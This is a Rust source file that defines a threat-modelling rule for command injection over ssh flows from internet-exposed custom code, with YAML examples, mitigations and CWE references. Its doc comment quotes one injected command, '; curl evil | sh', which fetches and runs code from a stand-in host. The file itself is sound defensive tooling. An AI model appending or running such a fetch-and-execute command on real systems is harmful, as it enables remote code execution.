//! T011 command-injection.

use crate::facts::flow_label;
use crate::rule::{Element, Finding};
use crate::rules::tampering::helpers::exposed_custom_sender;

crate::declare_rule! {
    /// ## What it does
    /// Finds flows over `ssh` from a process running custom code that less
    /// trusted callers reach. The model cannot see a process start a shell;
    /// a remote shell session opened by request-handling code is the place
    /// where it says commands are built at run time, so that is what this
    /// rule looks for.
    ///
    /// ## Why is this bad?
    /// Commands assembled from input (a file name, a host name, an option)
    /// let the caller append their own: `; curl evil | sh`. They run with the
    /// rights of the account the service signs in with, on a host the
    /// attacker could not otherwise reach.
    ///
    /// ## Example
    /// ```yaml
    /// components:
    ///   - { id: portal, kind: process, technology: web-application, zone: dmz, internet_facing: true }
    ///   - { id: legacy, kind: process, technology: mainframe, zone: private }
    /// flows:
    ///   - { id: portal-legacy, from: portal, to: legacy, protocol: ssh, authentication: certificate }
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// components:
    ///   - { id: portal, kind: process, technology: web-application, zone: dmz, internet_facing: true }
    ///   - { id: legacy, kind: process, technology: mainframe, zone: private }
    /// flows:
    ///   - { id: portal-legacy, from: portal, to: legacy, protocol: https, authentication: mtls }
    /// ```
    ///
    /// ## Mitigations
    /// - Call a narrow API instead of a shell; where a command is unavoidable, pass arguments as a list, never through a shell, and allow-list them.
    /// - Restrict the remote account with a forced command and the fewest rights.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection')
    /// - CWE-88: Improper Neutralization of Argument Delimiters in a Command ('Argument Injection')
    /// - CAPEC-88: OS Command Injection
    pub CommandInjection {
        code: "T011",
        name: "command-injection",
        stride: Tampering,
        summary: "input from less trusted callers can reach commands that custom code runs on another host",
        cwe: [78, 88],
        capec: [88],
        frequency: (0.001, 0.01),
    }
    fn check(estate, out) {
        for f in estate.flow_indices() {
            let flow = &estate[f];
            if flow.raw.protocol.value != "ssh" {
                continue;
            }
            let Some([custom, exposed]) = exposed_custom_sender(estate, f) else { continue };
            out.push(
                Finding::new(flow.system, vec![Element::Flow(f)])
                    .fact(format!("flow {} opens a remote shell over `ssh`", flow_label(estate, f)))
                    .fact(custom)
                    .fact(exposed),
            );
        }
    }
}
